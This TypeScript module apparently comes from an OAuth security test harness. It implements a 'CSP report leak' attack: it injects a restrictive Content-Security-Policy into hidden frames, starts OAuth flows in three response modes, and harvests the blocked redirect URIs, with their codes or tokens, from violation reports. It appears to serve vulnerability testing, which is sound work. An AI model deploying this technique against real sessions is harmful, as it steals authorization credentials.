import { noteOnSession, verdict, within } from './attack.ts'
import type { AttackContext, AttackResult } from './attack.ts'
import { Loot, poll, startOwnFlow, watchReports } from './own-flow.ts'
import { sameOriginDocuments } from './same-origin-documents.ts'

/**
 * A policy that allows the authorization server but not this origin makes the browser block the redirect back, and report
 * what it blocked: the whole redirect URI. Runs in child documents, for the policy of a document cannot be taken back.
 */
export async function cspReportLeak(context: AttackContext): Promise<AttackResult> {
  const loot = new Loot()
  const notes: string[] = [...noteOnSession(context)]
  const child = document.createElement('iframe')
  child.hidden = true
  child.srcdoc = '<!doctype html><title>child</title><body></body>'
  document.body.append(child)
  await within(2000, new Promise((resolve) => child.addEventListener('load', resolve)))
  const hosts = await sameOriginDocuments()
  const all = [
    ...(child.contentDocument ? [{ name: 'srcdoc frame', document: child.contentDocument }] : []),
    ...hosts.documents,
  ]
  for (const host of all) {
    const reports = await reportsInDocument(context, loot, host.document, host.name)
    notes.push(`${host.name}: ${reports} policy violations were reported.`)
  }
  hosts.remove()
  child.remove()
  return verdict(loot.found, notes)
}

/** Returns how many violations the document reported; what they told goes to the loot. */
export async function reportsInDocument(
  context: AttackContext,
  loot: Loot,
  host: Document,
  where: string,
): Promise<number> {
  const view = host.defaultView
  if (view === null) return 0
  let reports = 0
  const count = (): void => {
    reports += 1
  }
  host.addEventListener('securitypolicyviolation', count)
  const stop = watchReports(view, loot, where)
  const policy = host.createElement('meta')
  policy.httpEquiv = 'Content-Security-Policy'
  policy.content = `frame-src ${context.asOrigin}; object-src ${context.asOrigin}`
  const head = host.head ?? host.documentElement
  head.append(policy)
  const holders = await Promise.all(
    (['query', 'fragment', 'form_post'] as const).map(async (mode) => {
      const { url } = await startOwnFlow(context, mode)
      const frame = host.createElement('iframe')
      frame.hidden = true
      frame.src = url
      const object = host.createElement('object')
      object.data = (await startOwnFlow(context, mode)).url
      host.body.append(frame, object)
      return [frame, object]
    }),
  )
  await poll(loot, () => holders.flat().map(({ contentWindow }) => contentWindow), where, 1500)
  host.removeEventListener('securitypolicyviolation', count)
  stop()
  for (const holder of holders.flat()) holder.remove()
  return reports
}
